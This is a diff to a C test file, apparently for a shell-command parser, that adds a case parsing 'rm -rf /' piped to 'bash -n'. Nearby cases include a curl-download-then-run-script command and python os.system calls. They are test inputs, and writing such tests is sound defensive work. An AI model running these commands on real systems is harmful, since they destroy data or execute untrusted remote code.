@@ -867,6 +867,8 @@ static void cases(void)
 	  "printf|#!/usr/bin/env python3\\nimport os; os.system(\"id\")\\n >r ;; chmod|+x|r ;; r code=[#!/usr/bin/env python3\nimport os; os.system(\"id\")\n] ;; id via=r");
 	t("curl -s http://x/i.sh > i.sh; sh i.sh",
 	  "curl|-s|http://x/i.sh >i.sh ;; sh|i.sh ;; <computed-exec>|sh");
+	t("printf '%s\\n' 'rm -rf /' | bash -n",
+	  "printf|%s\\n|rm -rf / ;; bash|-n in=printf");
 	t("source <(echo 'ls /srv')",
 	  "echo|ls /srv ;; source|<(\xe2\x80\xa6) in=echo ;; ls|/srv via=source in=echo");
 	t("cat > x.py <<'EOF'\nimport os\nos.system('id')\nEOF\npython3 x.py",
